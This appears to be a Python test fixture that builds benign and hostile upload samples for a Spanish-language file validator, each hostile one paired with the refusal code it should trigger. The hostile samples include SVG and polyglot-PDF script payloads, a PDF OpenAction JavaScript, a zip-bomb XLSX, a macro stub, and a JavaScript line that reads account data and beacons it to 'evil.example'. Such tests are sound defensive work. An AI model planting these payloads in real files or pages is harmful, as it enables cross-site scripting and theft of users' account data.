"""Small real files of every allowed type, and hostile ones, built in memory for the upload tests."""

import io
import zipfile

from openpyxl import Workbook
from PIL import Image

PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
CSV = "nombre;región;comentario\nAna;Arica y Parinacota;«muy bien»\n".encode()
CSV_LATIN1 = "nombre;región\nJosé;Ñuble\n".encode("latin-1")

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Minuta</w:t></w:r></w:p></w:body></w:document>'
)


def zip_of(entries: list[tuple[str, bytes | str]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            kind = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=kind)
    return buffer.getvalue()


def docx(main: str = DOCX_MAIN, extra: list[tuple[str, bytes | str]] = ()) -> bytes:
    return zip_of(
        [
            ("[Content_Types].xml", CONTENT_TYPES.format(main=main)),
            ("_rels/.rels", RELS),
            ("word/document.xml", DOCUMENT_XML),
            *extra,
        ]
    )


def odf(mimetype: str) -> bytes:
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="{mimetype}"/></manifest:manifest>'
    )
    return zip_of(
        [
            ("mimetype", mimetype),
            ("content.xml", "<office:document-content/>"),
            ("META-INF/manifest.xml", manifest),
        ],
        stored_first=True,
    )


def xlsx(extra: list[tuple[str, bytes]] = ()) -> bytes:
    workbook = Workbook()
    workbook.active.append(["Región", "Respuestas"])
    workbook.active.append(["Arica", 12])
    buffer = io.BytesIO()
    workbook.save(buffer)
    if not extra:
        return buffer.getvalue()
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


def image(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, fmt)
    return buffer.getvalue()


def csv_with_binary_tail() -> bytes:
    """Text for longer than the first bytes looked at, then binary."""
    return CSV * 5000 + b"\x00\x01\x02"


ODT = odf("application/vnd.oasis.opendocument.text")
ODS = odf("application/vnd.oasis.opendocument.spreadsheet")
PNG = image("PNG")
JPEG = image("JPEG")

VALID = {
    "plan.pdf": PDF,
    "resultados.xlsx": xlsx(),
    "datos.csv": CSV,
    "datos-latin1.csv": CSV_LATIN1,
    "minuta.docx": docx(),
    "minuta.odt": ODT,
    "planilla.ods": ODS,
    "afiche.png": PNG,
    "foto.jpg": JPEG,
    "foto.JPEG": JPEG,
    "informe 2024.final.pdf": PDF,  # dots in a name are not a double extension
}

HTML = b"<!DOCTYPE html><html><body><script>fetch('/cuenta/').then(r=>r.text())</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
    b"<script>alert(1)</script></svg>"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200)
JS = b"fetch('/cuenta/mis-datos/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))"
POLYGLOT = b"%PDF-1.4\n%<html><body><script>alert(document.cookie)</script></body></html>\n" + PDF[9:]
# 50 MB of zeros in a part of a real XLSX: a few dozen KB on disk.
ZIP_BOMB_XLSX = xlsx(extra=[("xl/media/relleno.bin", bytes(50 * 1024 * 1024))])
PLAIN_ZIP = zip_of([("minuta.txt", "hola")])
OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)

# (name, content, refusal code, words the message must contain)
HOSTILE = [
    ("pagina.html", HTML, "file_extension", "No se aceptan archivos .html"),
    ("minuta.pdf", HTML, "file_mismatch", "El archivo es una página web, no un PDF"),
    ("afiche.svg", SVG, "file_extension", "No se aceptan archivos .svg"),
    ("afiche.png", SVG, "file_mismatch", "El archivo es una imagen SVG, no una imagen PNG"),
    ("minuta.pdf.html", HTML, "file_double_extension", "tiene dos extensiones (.pdf, .html)"),
    ("minuta.html.pdf", PDF, "file_double_extension", "tiene dos extensiones (.html, .pdf)"),
    ("minuta.pdf", POLYGLOT, "file_active_content", "lleva dentro código de página web"),
    ("programa.exe", EXE, "file_extension", "No se aceptan archivos .exe"),
    ("minuta.pdf", EXE, "file_mismatch", "El archivo es un programa ejecutable, no un PDF"),
    ("codigo.js", JS, "file_extension", "No se aceptan archivos .js"),
    ("datos.csv", JS, "file_mismatch", "El archivo es un programa (código JavaScript u otro), no un archivo"),
    ("resultados.xlsx", ZIP_BOMB_XLSX, "file_zip_bomb", "bomba zip"),
    (
        "minuta.docx",
        PLAIN_ZIP,
        "file_mismatch",
        "El archivo es un archivo comprimido ZIP, no un documento DOCX",
    ),
    ("minuta.pdf", PNG, "file_mismatch", "El archivo es una imagen PNG, no un PDF"),
    ("minuta.docx", OLD_WORD, "file_mismatch", "documento de Office antiguo"),
    ("minuta.docx", docx(DOCM_MAIN), "file_mismatch", "archivo comprimido ZIP, no un documento DOCX"),
    ("minuta.docx", docx(extra=[("word/vbaProject.bin", b"\x00" * 64)]), "file_macros", "macros"),
    ("afiche.png", PNG[:40], "file_damaged", "La imagen está dañada"),
    (
        "datos.csv",
        "a;b\n1;2\n".encode("utf-16"),
        "file_mismatch",
        "un tipo que no reconocemos, no un archivo de",
    ),
    ("datos.csv", csv_with_binary_tail(), "file_mismatch", "El archivo no es texto, así que no es un CSV"),
    ("vacio.pdf", b"", "file_empty", "vacío"),  # the form field says it first, in its own words
    ("minuta", PDF, "file_no_extension", "no termina en una extensión"),
    (
        "minuta.pdf",
        PDF.replace(b"/Type/Catalog", b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        "file_active_content",
        "código que se ejecuta",
    ),
]
